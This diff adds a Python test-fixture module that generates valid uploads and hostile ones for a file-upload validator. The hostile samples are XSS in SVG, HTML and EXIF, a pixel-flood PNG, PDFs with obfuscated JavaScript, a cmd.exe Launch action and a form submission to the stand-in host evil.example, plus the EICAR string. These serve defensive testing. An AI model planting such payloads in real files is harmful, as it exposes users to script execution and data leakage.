@@ -1,0 +1,150 @@
+"""Files that somebody might send: good ones, and every nasty one of reliability.md §5.10, made when they are needed."""
+
+import struct
+import zipfile
+import zlib
+from io import BytesIO
+from typing import Any
+
+import pikepdf
+from PIL import Image
+from PIL.ExifTags import GPS, IFD, Base
+from PIL.PngImagePlugin import PngInfo
+
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+SECRET = "Secret-Street-44"
+
+
+def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **how: Any) -> bytes:
+    """A picture with something to see in it: left half red."""
+    image = Image.new(mode, size)
+    if mode == "RGB":
+        image.paste((200, 30, 30), (0, 0, size[0] // 2, size[1]))
+    written = BytesIO()
+    image.save(written, kind, **how)
+    return written.getvalue()
+
+
+def told_where(kind: str = "JPEG") -> bytes:
+    """A picture whose EXIF tells where it was taken, by whose device, and that it lies on its side."""
+    exif = Image.Exif()
+    exif[Base.Orientation] = 6
+    exif[Base.ImageDescription] = SECRET
+    exif[Base.Make] = SECRET + "\x00<script>alert(1)</script>"
+    exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitude] = (34.0, 0.0, 54.0)
+    exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitudeRef] = "N"
+    more: dict[str, Any] = {"exif": exif.tobytes(), "icc_profile": SECRET.encode()}
+    if kind == "PNG":
+        more["pnginfo"] = PngInfo()
+        more["pnginfo"].add_text("Comment", SECRET)
+    if kind == "JPEG":
+        more["comment"] = SECRET.encode()
+    return picture(kind, **more)
+
+
+def flood(width: int = 60_000, height: int = 60_000) -> bytes:
+    """A PNG of a few bytes that says it has 3.6 thousand million pixels."""
+    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
+    return start + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
+
+
+def chunk(name: bytes, body: bytes) -> bytes:
+    """One chunk of a PNG."""
+    return struct.pack("!I", len(body)) + name + body + struct.pack("!I", zlib.crc32(name + body))
+
+
+def zipped(name: str = "a.txt") -> bytes:
+    """A ZIP archive."""
+    written = BytesIO()
+    with zipfile.ZipFile(written, "w") as archive:
+        archive.writestr(name, "hello")
+    return written.getvalue()
+
+
+def pdf(**root: Any) -> bytes:
+    """A PDF of one empty page, with more in its catalogue."""
+    document = pikepdf.new()
+    document.add_blank_page()
+    for name, value in root.items():
+        document.Root[f"/{name}"] = document.make_indirect(pikepdf.Object.parse(value))
+    written = BytesIO()
+    document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return written.getvalue()
+
+
+def locked_pdf() -> bytes:
+    """A PDF that opens with a password only."""
+    written = BytesIO()
+    with pikepdf.open(BytesIO(pdf())) as document:
+        document.save(written, encryption=pikepdf.Encryption(owner="owner", user="user"))
+    return written.getvalue()
+
+
+def pdf_with_a_file() -> bytes:
+    """A PDF that carries another file."""
+    written = BytesIO()
+    with pikepdf.open(BytesIO(pdf())) as document:
+        document.attachments["run.exe"] = b"MZ"
+        document.save(written)
+    return written.getvalue()
+
+
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+HTML = b"<!doctype html><script>alert(document.domain)</script>"
+JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+
+GOOD: dict[str, tuple[bytes, str]] = {
+    "jpeg": (picture(), "image/jpeg"),
+    "grey jpeg": (picture(mode="L"), "image/jpeg"),
+    "cmyk jpeg": (picture(mode="CMYK"), "image/jpeg"),
+    "png": (picture("PNG"), "image/png"),
+    "png with alpha": (picture("PNG", mode="RGBA"), "image/png"),
+    "png with a palette": (picture("PNG", mode="P"), "image/png"),
+    "png of 16 bits": (picture("PNG", mode="I;16"), "image/png"),
+    "webp": (picture("WEBP"), "image/webp"),
+    "many pictures in one jpeg": (
+        picture("MPO", save_all=True, append_images=[Image.new("RGB", (64, 48))]),
+        "image/jpeg",
+    ),
+    "pdf": (pdf(), "application/pdf"),
+    "pdf that opens at a page": (pdf(OpenAction=b"<< /S /GoTo /D [0 /Fit] >>"), "application/pdf"),
+}
+BAD: dict[str, tuple[bytes, str]] = {
+    "nothing": (b"", "file-broken"),
+    "text": (b"hello", "file-type"),
+    "eicar": (EICAR, "file-type"),
+    "svg": (SVG, "file-type"),
+    "html": (HTML, "file-type"),
+    "zip": (zipped(), "file-type"),
+    "nested zip": (zipped("b.zip"), "file-type"),
+    "gif": (picture("GIF"), "file-type"),
+    "tiff": (picture("TIFF"), "file-type"),
+    "program": (b"MZ" + bytes(200), "file-type"),
+    "html before a jpeg": (HTML + picture(), "file-type"),
+    "html before a pdf": (HTML + pdf(), "file-type"),
+    "only the start of a jpeg": (b"\xff\xd8\xff", "file-broken"),
+    "half a jpeg": (picture(size=(600, 400))[:2000], "file-broken"),
+    "half a png": (picture("PNG", size=(600, 400))[:-40], "file-broken"),
+    "half a webp": (picture("WEBP", size=(600, 400))[:200], "file-broken"),
+    "jpeg's start, then a script": (b"\xff\xd8\xff\xe0" + HTML, "file-broken"),
+    "flood of pixels": (flood(), "file-pixels"),
+    "one row too many": (flood(8_000, 5_001), "file-pixels"),
+    "half a pdf": (pdf()[:300], "file-broken"),
+    "pdf's start, then a script": (b"%PDF-1.7\n" + HTML + b"\n%%EOF", "file-broken"),
+    "zip after a pdf": (pdf() + zipped(), "file-broken"),
+    "zip at the end of a pdf": (pdf() + zipped() + b"\nstartxref\n0\n%%EOF", "file-broken"),
+    "pdf with a script": (pdf(OpenAction=JS), "file-active"),
+    "pdf with a hidden name of a script": (
+        pdf(OpenAction=b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"),
+        "file-active",
+    ),
+    "pdf with a script deep inside": (
+        pdf(Names=b"<< /A [ << /B << /AA << /O " + JS + b" >> >> >> ] >>"),
+        "file-active",
+    ),
+    "pdf that starts a program": (pdf(OpenAction=b"<< /S /Launch /F (cmd.exe) >>"), "file-active"),
+    "pdf that sends a form": (pdf(OpenAction=b"<< /S /SubmitForm /F (http://evil.example) >>"), "file-active"),
+    "pdf with a form of its own": (pdf(AcroForm=b"<< /XFA (x) >>"), "file-active"),
+    "pdf with a file in it": (pdf_with_a_file(), "file-active"),
+    "locked pdf": (locked_pdf(), "file-locked"),
+}
